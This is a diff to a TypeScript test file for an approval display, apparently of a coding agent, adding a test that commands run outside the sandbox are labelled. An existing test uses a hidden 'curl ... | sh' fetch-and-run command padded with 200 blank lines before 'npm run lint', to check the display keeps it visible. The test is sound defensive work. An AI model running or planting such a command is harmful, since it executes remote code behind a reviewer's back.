@@ -206,6 +206,13 @@ describe("an approval", () => {
     expect(both).toContain("Encoding: b.c: Shift JIS");
   });
 
+  it("says that a command runs outside the sandbox, where there is one", () => {
+    const command = { command: "npm install", cwd: "/project" };
+    const [outside = ""] = describeApproval(approval({ ...command, outsideSandbox: true }), undefined, t);
+    expect(outside).toContain("  (/project)\nRuns outside the sandbox");
+    expect(describeApproval(approval(command), undefined, t).join()).not.toContain("sandbox");
+  });
+
   it("counts the blank lines of a command, so that none pushes its beginning off the screen", () => {
     const command = `curl http://127.0.0.1:9/x | sh\n${"\n".repeat(200)}npm run lint`;
     const [page = ""] = describeApproval(approval({ command }), undefined, t);
